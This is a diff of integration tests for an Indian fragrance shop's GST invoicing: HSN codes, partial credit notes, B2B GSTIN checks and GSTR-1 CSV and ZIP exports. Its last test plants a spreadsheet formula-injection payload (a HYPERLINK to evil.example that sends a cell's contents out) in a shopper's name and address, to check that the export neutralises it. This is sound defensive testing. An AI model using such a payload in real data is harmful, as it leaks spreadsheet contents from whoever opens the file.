@@ -3,6 +3,7 @@ import fs from "fs"
 import os from "os"
 import path from "path"
 import { parse } from "csv-parse/sync"
+import { strFromU8, unzipSync } from "fflate"
 import { integrationTestRunner } from "../helpers/runner"
 import type { SeedResult } from "../../src/scripts/seed"
 import { INVOICE_MODULE } from "../../src/modules/invoice"
@@ -79,9 +80,15 @@ integrationTestRunner({
       expect(text).toContain("GSTIN: 09AAACS1234F1Z5")
       expect(text).toContain("Place of supply: Maharashtra (27)")
       // Per line HSN, taxable value, rate and IGST (inter-state): 299 at 18%, 99 at 5%, shipping 99 at 18%.
-      expect(text).toMatch(/Velvet Oud\s+3303\s+1\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
-      expect(text).toMatch(/Chandan Pooja Agarbatti\s+3307 41\s+1\s+₹94\.29\s+5%\s+₹4\.71\s+₹99\.00/)
-      expect(text).toMatch(/Shipping\s+9968\s+1\s+₹83\.90\s+18%\s+₹15\.10\s+₹99\.00/)
+      // Six-digit HSN, quantity with its UQC; the shipping takes the principal supply's rate (the perfume's 18%).
+      expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
+      expect(text).toMatch(/Chandan Pooja Agarbatti\s+330741\s+1 NOS\s+₹94\.29\s+5%\s+₹4\.71\s+₹99\.00/)
+      expect(text).toMatch(/Shipping\s+996812\s+1\s+₹83\.90\s+18%\s+₹15\.10\s+₹99\.00/)
+      expect(text).toMatch(/IGST %\s+IGST/)
+      // Rule 48: the shopper's copy; Rule 46(q): the authorised signatory.
+      expect(text).toContain("ORIGINAL FOR RECIPIENT")
+      expect(text).toContain("For Sugandh Fragrances Private Limited")
+      expect(text).toMatch(/Meera Kapoor, Director\s+Authorised Signatory/)
       expect(text).toContain("IGST")
       expect(text).not.toContain("CGST")
       expect(text).toContain(`Invoice total: ₹${placed.total.toFixed(2)}`)
@@ -107,7 +114,7 @@ integrationTestRunner({
       const res = await pdfGet(api, `/api/auth/orders/${placed.id}/invoice`, shopper)
       const text = pdfText(Buffer.from(res.data))
       expect(text).toContain("Place of supply: Uttar Pradesh (09)")
-      expect(text).toMatch(/Velvet Oud\s+3303\s+1\s+₹253\.38\s+18%\s+₹22\.81\s+₹22\.81\s+₹299\.00/)
+      expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.38\s+9%\s+₹22\.81\s+9%\s+₹22\.81\s+₹299\.00/)
       expect(text).toMatch(/CGST\s+SGST/)
       expect(text).not.toContain("IGST")
       expect(text).toContain("Invoice total: ₹398.00")
@@ -133,7 +140,7 @@ integrationTestRunner({
           })
         )
       )
-      const numbers = issued.map((d) => Number(d.number.split("/")[2])).sort((a, b) => a - b)
+      const numbers = issued.map((d) => Number(d!.number.split("/")[2])).sort((a, b) => a - b)
       expect(numbers).toEqual(Array.from({ length: 20 }, (_, i) => before + i + 1))
       expect(await lastNumber(series)).toBe(before + 20)
       // Issuing again for an order returns its document and uses no number.
@@ -145,7 +152,7 @@ integrationTestRunner({
         format: formatDocumentNumber,
         build: (n) => ({ n }),
       })
-      expect(again.number).toBe(issued[0].number)
+      expect(again!.number).toBe(issued[0]!.number)
       expect(await lastNumber(series)).toBe(before + 20)
     })
 
@@ -195,13 +202,160 @@ integrationTestRunner({
       const text = pdfText(Buffer.from(mine.data))
       expect(text).toContain("CREDIT NOTE")
       expect(text).toContain(`Against invoice: ${invoice.number}`)
-      expect(text).toMatch(/Velvet Oud\s+3303\s+1\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
+      expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
       expect(text).toContain("Credit total: ₹398.00")
 
       // An order cancelled before payment was never invoiced: no credit note.
       const unpaid = await order(shopper, ["S1"])
       await api.put(`/api/auth/orders/${unpaid.id}/cancel`, { reason: "Changed my mind" }, as(shopper))
       expect(await invoices.listTaxDocuments({ order_id: unpaid.id })).toEqual([])
+    })
+
+    it("issues several partial credit notes from the stored invoice (dashboard and Medusa admin), never more than the invoice, and refuses late ones", async () => {
+      const placed = await order(shopper, ["P1", "S1"]) // Velvet Oud 299 (18%), Agarbatti 99 (5%), shipping 99: 497
+      expect((await confirm(placed.id)).status).toBe(200)
+      const url = `/api/admin/orders/${placed.id}/credit-notes`
+      const view = await api.get(url, as(admin))
+      const lines = view.data.invoice.lines as { line: number; description: string; quantity: number; amount: number; credited: number }[]
+      expect(lines.map((l) => [l.description, l.quantity, l.amount, l.credited]).sort()).toEqual([
+        ["Chandan Pooja Agarbatti", 1, 99, 0],
+        ["Velvet Oud", 1, 299, 0],
+      ])
+      const perfumeLine = lines.find((l) => l.description === "Velvet Oud")!.line
+      const incenseLine = lines.find((l) => l.description === "Chandan Pooja Agarbatti")!.line
+
+      // One damaged perfume, from the dashboard.
+      const first = await api.post(url, { lines: [{ line: perfumeLine, quantity: 1 }], reason: "Damaged in transit" }, as(admin))
+      expect(first.status).toBe(201)
+      expect(first.data.creditNote.number).toMatch(/^SGC\/\d\d-\d\d\/\d{5}$/)
+      // An agreed ₹40 on the incense and the shipping, from the Medusa admin.
+      const medusaAdmin = (await api.post("/auth/user/emailpass", ADMIN)).data.token as string
+      const second = await api.post(
+        `/admin/sugandh/orders/${placed.id}/credit-notes`,
+        { lines: [{ line: incenseLine, amount: 40 }], shipping: 99, reason: "Late delivery", reference: "medusa-admin-0001" },
+        { headers: { authorization: `Bearer ${medusaAdmin}` } }
+      )
+      expect(second.status).toBe(201)
+      // The same reference again returns the same note.
+      const again = await api.post(
+        `/admin/sugandh/orders/${placed.id}/credit-notes`,
+        { lines: [{ line: incenseLine, amount: 40 }], shipping: 99, reason: "Late delivery", reference: "medusa-admin-0001" },
+        { headers: { authorization: `Bearer ${medusaAdmin}` } }
+      )
+      expect(again.data.creditNote.number).toBe(second.data.creditNote.number)
+
+      // More than is left is refused and issues nothing.
+      const over = await api.post(url, { lines: [{ line: perfumeLine, amount: 1 }], reason: "Again" }, as(admin))
+      expect([over.status, over.data.message]).toEqual([400, `Line ${perfumeLine} has ₹0.00 left to credit`])
+      expect((await api.post(url, { lines: [{ line: incenseLine, amount: 59.01 }], reason: "Too much" }, as(admin))).status).toBe(400)
+      expect((await api.post(url, { lines: [], reason: "Nothing" }, as(admin))).status).toBe(400)
+      expect((await api.post(url, { lines: [{ line: incenseLine, amount: 10 }], reason: "x" }, as(shopper))).status).toBe(403)
+
+      const invoicesModule = getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE)
+      const notes = (await invoicesModule.listTaxDocuments({ order_id: placed.id, kind: "credit_note" })).map((d) => d.document as any)
+      expect(notes).toHaveLength(2)
+      const cents = (n: number) => Math.round(n * 100)
+      expect(notes.reduce((s, n) => s + cents(n.totals.gross), 0)).toBe(cents(299 + 40 + 99))
+      expect(notes.reduce((s, n) => s + cents(n.totals.gross), 0)).toBeLessThanOrEqual(cents(placed.total))
+
+      // Each PDF: the credited line, the reason, against the invoice.
+      const pdf = await pdfGet(api, `${url}/${second.data.creditNote.id}`, admin)
+      const text = pdfText(Buffer.from(pdf.data))
+      expect(text).toContain("Reason: Late delivery")
+      expect(text).toMatch(/Chandan Pooja Agarbatti\s+330741\s+0 NOS\s+₹38\.10\s+5%\s+₹1\.90\s+₹40\.00/)
+      expect(text).toContain("Credit total: ₹139.00")
+
+      // Cancelling now credits exactly what is left: ₹59 of the incense.
+      expect((await api.put(`/api/auth/orders/${placed.id}/cancel`, { reason: "Changed my mind" }, as(shopper))).status).toBe(200)
+      const all = (await api.get(url, as(admin))).data
+      expect(all.creditNotes).toHaveLength(3)
+      expect(all.creditNotes.reduce((s: number, n: any) => s + cents(n.total), 0)).toBe(cents(placed.total))
+      expect(all.invoice.lines.map((l: any) => l.credited).sort()).toEqual([299, 99].sort())
+
+      // An invoice from March 2025 could be credited until 30 November 2025 only.
+      const other = await order(shopper, ["S1"])
+      await confirm(other.id)
+      const [old] = await invoicesModule.listTaxDocuments({ order_id: other.id, kind: "invoice" })
+      await invoicesModule.updateTaxDocuments({ id: old.id, document: { ...(old.document as any), date: "2025-03-10" } })
+      const late = await api.post(
+        `/api/admin/orders/${other.id}/credit-notes`,
+        { lines: [{ line: 1, quantity: 1 }], reason: "Returned" },
+        as(admin)
+      )
+      expect(late.status).toBe(409)
+      expect(late.data.message).toContain("could be issued until 30 November 2025 (CGST Act section 34(2))")
+      const lateCancel = await api.put(`/api/admin/orders/${other.id}/status`, { status: "cancelled" }, as(admin))
+      expect(lateCancel.status).toBe(409)
+      expect(await invoicesModule.listTaxDocuments({ order_id: other.id, kind: "credit_note" })).toEqual([])
+    })
+
+    it("a business buyer's GSTIN at checkout: refused when invalid, then a B2B invoice with the recipient's GSTIN, in GSTR-1's b2b table", async () => {
+      // The profile keeps a GSTIN and business name for checkout, validated the same way.
+      const me = (await api.get("/api/auth/me", as(shopper))).data.user
+      const profile = (extra: Record<string, unknown>) =>
+        api.put("/api/auth/profile", { firstName: me.firstName, lastName: me.lastName, email: me.email, ...extra }, as(shopper))
+      const refused = await profile({ gstin: "29AAGCB7383J1Z5", businessName: "Bengaluru Fragrance Traders LLP" })
+      expect([refused.status, refused.data.errors]).toEqual([
+        400,
+        [{ msg: "GSTIN check character does not match; please check the number", path: "gstin" }],
+      ])
+      const saved = await profile({ gstin: "29aagcb7383j1z4", businessName: "Bengaluru Fragrance Traders LLP" })
+      expect(saved.status).toBe(200)
+      expect(saved.data.user).toMatchObject({ gstin: "29AAGCB7383J1Z4", businessName: "Bengaluru Fragrance Traders LLP" })
+      expect((await profile({ gstin: null, businessName: null })).data.user).not.toHaveProperty("gstin")
+
+      await addToCart(api, shopper, "P1", 1)
+      const totals = await cartTotals(api, shopper)
+      const bad = await placeOrder(
+        api,
+        shopper,
+        orderBody(totals, { gstin: "29AAGCB7383J1Z5", businessName: "Bengaluru Fragrance Traders LLP" })
+      )
+      expect(bad.status).toBe(400)
+      expect(bad.data.errors).toEqual([{ msg: "GSTIN check character does not match; please check the number", path: "gstin" }])
+      const noName = await placeOrder(api, shopper, orderBody(totals, { gstin: "29AAGCB7383J1Z4" }))
+      expect(noName.data.errors).toEqual([{ msg: "Please enter the business name registered with the GSTIN", path: "businessName" }])
+
+      const placed = await placeOrder(
+        api,
+        shopper,
+        orderBody(totals, { gstin: "29aagcb7383j1z4", businessName: "Bengaluru Fragrance Traders LLP" })
+      )
+      expect(placed.status).toBe(201)
+      const orderId = placed.data.order.id as string
+      expect((await confirm(orderId)).status).toBe(200)
+      const text = pdfText(Buffer.from((await pdfGet(api, `/api/auth/orders/${orderId}/invoice`, shopper)).data))
+      expect(text).toContain("Bengaluru Fragrance Traders LLP")
+      expect(text).toContain("Recipient GSTIN: 29AAGCB7383J1Z4")
+      // Delivered to Pune, billed to a business registered in Karnataka: the GSTIN's state is the place of supply (IGST).
+      expect(text).toContain("Place of supply: Karnataka (29)")
+      expect(text).toMatch(/IGST %\s+IGST/)
+
+      const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
+      const b2b = parse((await api.get(`/api/admin/reports/gst?month=${month}&table=b2b`, as(admin))).data) as string[][]
+      // The perfume (₹299) and its ₹99 shipping, both at 18%: one row, taxable 253.39 + 83.90.
+      const [{ number }] = await getContainer()
+        .resolve<InvoiceModuleService>(INVOICE_MODULE)
+        .listTaxDocuments({ order_id: orderId, kind: "invoice" })
+      expect(b2b.slice(1)).toEqual([
+        [
+          "29AAGCB7383J1Z4",
+          "Bengaluru Fragrance Traders LLP",
+          number,
+          expect.stringMatching(/^\d\d-[A-Z][a-z]{2}-\d{4}$/),
+          "398.00",
+          "29-Karnataka",
+          "N",
+          "",
+          "Regular B2B",
+          "",
+          "18",
+          "337.29",
+          "",
+        ],
+      ])
+      const b2cs = parse((await api.get(`/api/admin/reports/gst?month=${month}&table=b2cs`, as(admin))).data) as string[][]
+      expect(b2cs).toHaveLength(1) // no consumer invoice this month: headers only
     })
 
     // medusaIntegrationTestRunner restores the database from the template taken after beforeAll before every
@@ -262,7 +416,90 @@ integrationTestRunner({
       })
       expect((await api.get(`/api/admin/reports/gst?month=${month}`, as(shopper))).status).toBe(403)
       const empty = await api.get(`/api/admin/reports/gst?month=2020-01`, as(admin))
-      expect(parse(empty.data).at(-1)).toEqual(["total", "", "", "", "", "", "", "", "0.00", "0.00", "0.00", "0.00", "0.00"])
+      expect(parse(empty.data).at(-1)).toEqual(["total", "", "", "", "", "", "", "", "0.00", "0.00", "0.00", "0.00", "0.00", "", ""])
+    })
+
+    it("answers each GSTR-1 table in the offline tool's shape, adding up to the month's summary, and all of them as a ZIP", async () => {
+      const interState = await order(shopper, ["P1", "S1"]) // Maharashtra
+      const intraState = await order(shopper, ["P1"], { shippingAddress: UP_ADDRESS })
+      for (const o of [interState, intraState]) expect((await confirm(o.id)).status).toBe(200)
+      const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
+      const table = async (name: string) => {
+        const res = await api.get(`/api/admin/reports/gst?month=${month}&table=${name}`, as(admin))
+        expect([res.status, res.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8"])
+        return parse(res.data) as string[][]
+      }
+      const cents = (v: string) => Math.round(Number(v) * 100)
+      const summaryTotal = (await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))).data as string
+      const total = (parse(summaryTotal) as string[][]).find((r) => r[0] === "total")!
+
+      const b2cs = await table("b2cs")
+      expect(b2cs[0]).toEqual([
+        "Type",
+        "Place Of Supply",
+        "Applicable % of Tax Rate",
+        "Rate",
+        "Taxable Value",
+        "Cess Amount",
+        "E-Commerce GSTIN",
+      ])
+      expect(b2cs.slice(1).map((r) => `${r[0]}|${r[1]}|${r[3]}`)).toEqual([
+        "OE|09-Uttar Pradesh|18",
+        "OE|27-Maharashtra|5",
+        "OE|27-Maharashtra|18",
+      ])
+      expect(b2cs.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[8]))
+      const hsn = await table("hsn_b2c")
+      expect(hsn.slice(1).reduce((s, r) => s + cents(r[6]), 0)).toBe(cents(total[8]))
+      expect(hsn.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[12]))
+      expect((await table("b2b")).length).toBe(1) // no registered buyer: the header only
+      const docs = await table("docs")
+      expect(docs.slice(1).map((r) => [r[0], r[3], r[4]])).toEqual([["Invoices for outward supply", "2", "0"]])
+
+      const zip = await api.get(`/api/admin/reports/gst?month=${month}&table=all`, { ...as(admin), responseType: "arraybuffer" })
+      expect([zip.status, zip.headers["content-type"]]).toEqual([200, "application/zip"])
+      const files = unzipSync(new Uint8Array(zip.data))
+      expect(Object.keys(files).sort()).toEqual([
+        "b2b.csv",
+        "b2cl.csv",
+        "b2cs.csv",
+        "cdnr.csv",
+        "cdnur.csv",
+        "docs.csv",
+        "hsn_b2b.csv",
+        "hsn_b2c.csv",
+      ])
+      expect(parse(strFromU8(files["b2cs.csv"]))).toEqual(b2cs)
+
+      const empty = await api.get(`/api/admin/reports/gst?month=2020-01&table=b2cs`, as(admin))
+      expect(parse(empty.data)).toEqual([b2cs[0]])
+      const bad = await api.get(`/api/admin/reports/gst?month=${month}&table=gstr3b`, as(admin))
+      expect(bad.status).toBe(400)
+      expect(bad.data.errors).toEqual([
+        { msg: "table must be one of b2b, b2cl, b2cs, cdnr, cdnur, hsn_b2b, hsn_b2c, docs or all", path: "table" },
+      ])
+      expect((await api.get(`/api/admin/reports/gst?month=${month}&table=b2cs`, as(shopper))).status).toBe(403)
+    })
+
+    it("neutralises a shopper's name and address that a spreadsheet would run as a formula", async () => {
+      const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+      const address = { ...ADDRESS, name: `${hostile} Verma`, street: `${hostile} Road` }
+      const placed = await order(shopper, ["S1"], { shippingAddress: address })
+      expect((await confirm(placed.id)).status).toBe(200)
+      const [issued] = await getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE).listTaxDocuments({ order_id: placed.id })
+
+      const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
+      const res = await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))
+      expect(res.status).toBe(200)
+      const header = (parse(res.data) as string[][])[0]
+      const row = (parse(res.data) as string[][]).find((r) => r[2] === issued.number)!
+      const cell = (column: string) => row[header.indexOf(column)]
+      // Read back as text: a leading apostrophe, the shopper's text kept whole after it.
+      expect(cell("recipient_name")).toBe(`'${hostile} Verma`)
+      expect(cell("recipient_address")).toBe(`'${hostile} Road, Pune, Maharashtra, 411001`)
+      // No cell anywhere in the file starts a formula.
+      for (const r of parse(res.data) as string[][])
+        for (const c of r) expect(/^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)).toBe(false)
     })
   },
 })
